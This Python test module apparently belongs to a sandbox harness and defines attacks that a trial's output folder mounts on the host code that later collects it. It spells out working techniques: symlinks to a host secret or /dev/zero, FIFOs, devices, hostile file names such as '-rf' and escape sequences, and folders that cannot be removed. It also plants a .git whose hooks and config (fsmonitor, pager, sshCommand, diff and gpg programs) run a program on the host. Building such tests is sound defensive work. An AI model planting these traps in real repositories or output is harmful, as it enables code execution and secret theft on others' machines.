"""Attacks on whoever looks at what a trial left: links, pipes, devices, a planted .git."""

from __future__ import annotations

import dataclasses

from loopty.attacks import host_side
from loopty.attacks.attack import BOUNDS, Attack
from loopty.attacks.threats import Threat

_EVERYWHERE = """
import socket, stat
os.mkdir(OUT + "/traces")
os.mkdir(OUT + "/draft")
secret = HOST["beside"] + "/secret"
for path in (OUT + place for place in ("/result.json", "/metrics.csv", "/traces/task_1.json", "/draft/file")):
    {}
"""

_LEFT = {
    "leave links to a secret": _EVERYWHERE.format("os.symlink(secret, path)"),
    "leave links to an endless file": _EVERYWHERE.format("os.symlink('/dev/zero', path)"),
    "leave pipes that nobody writes to": _EVERYWHERE.format("os.mkfifo(path)"),
    # The only device that everyone may make: one that answers takes root.
    "leave devices": _EVERYWHERE.format("os.mknod(path, stat.S_IFCHR | 0o666, 0)"),
    "leave sockets": _EVERYWHERE.format("socket.socket(socket.AF_UNIX).bind(path)"),
    "leave directories where files are due": _EVERYWHERE.format("os.mkdir(path)"),
    "leave folders that are links": """
os.symlink(HOST["beside"] + "/traces", OUT + "/traces")
os.mkdir(OUT + "/draft")
os.symlink(HOST["beside"], OUT + "/draft/folder")
""",
    "leave names that are no names": """
os.mkdir(OUT + "/traces")
os.mkdir(OUT + "/draft")
for name in ("a\\nb", "\\x1b[31m", "-rf", "a b", '"', "\\udcff", "x" * 240):
    for place in ("/traces/task_%s.json", "/draft/%s"):
        with open(OUT + place % name, "w") as file:
            file.write("{}")
""",
    "leave folders too deep to remove": """
# In parts that nobody minds, which are then put into each other at once.
parts = [OUT + "/part%d" % number for number in range(16)]
for part in parts:
    os.makedirs(part + "/deep" * 90)
for above, part in zip(reversed(parts[:-1]), reversed(parts[1:])):
    os.rename(part, above + "/deep" * 90 + "/next")
""",
    "leave folders that forbid their own removal": """
os.makedirs(OUT + "/closed/inside")
os.chmod(OUT + "/closed/inside", 0)
os.chmod(OUT + "/closed", 0)
""",
}

# Every program that git is known to start when it looks at a repository or commits to it, filters excepted:
# those belong to the user's own settings.
_GIT = """
import hashlib, zlib
git = OUT + "/draft/.git"
for folder in ("/objects", "/refs/heads", "/hooks"):
    os.makedirs(git + folder)

def stored(kind, content):
    raw = b"%s %d\\0" % (kind, len(content)) + content
    name = hashlib.sha1(raw).hexdigest()
    os.makedirs(git + "/objects/" + name[:2], exist_ok=True)
    with open(git + "/objects/" + name[:2] + "/" + name[2:], "wb") as file:
        file.write(zlib.compress(raw))
    return name

def written(path, text):
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, 0o755)

program = "#!/bin/sh\\necho here >> " + HOST["beside"] + "/started\\n"
written(OUT + "/draft/program", program)
for hook in ("reference-transaction", "post-index-change", "pre-commit", "post-commit", "post-checkout"):
    written(git + "/hooks/" + hook, program)
tree = stored(b"tree", b"")
who = "a <a@a> 0 +0000"
text = "tree %s\\nauthor %s\\ncommitter %s\\n\\nplanted\\n" % (tree, who, who)
written(git + "/refs/heads/main", stored(b"commit", text.encode()) + "\\n")
written(git + "/HEAD", "ref: refs/heads/main\\n")
written(OUT + "/draft/.gitattributes", "* diff=any\\n")
written(git + "/config", '''[core]
    repositoryformatversion = 0
    fsmonitor = PROGRAM
    hooksPath = .git/hooks
    pager = PROGRAM
    editor = PROGRAM
    sshCommand = PROGRAM
    alternateRefsCommand = PROGRAM
[diff]
    external = PROGRAM
[diff "any"]
    command = PROGRAM
    textconv = PROGRAM
[commit]
    gpgSign = true
[gpg]
    program = PROGRAM
[pager]
    diff = PROGRAM
'''.replace("PROGRAM", HOST["draft"] + "/program"))
"""

ATTACKS = (
    *(
        Attack(
            name,
            Threat.HARVEST,
            None,
            script,
            dataclasses.replace(BOUNDS, disk_mb=64),
            after=host_side.process_leftovers,
        )
        for name, script in _LEFT.items()
    ),
    Attack("leave a .git that starts programs", Threat.GIT, None, _GIT, after=host_side.process_leftovers),
)
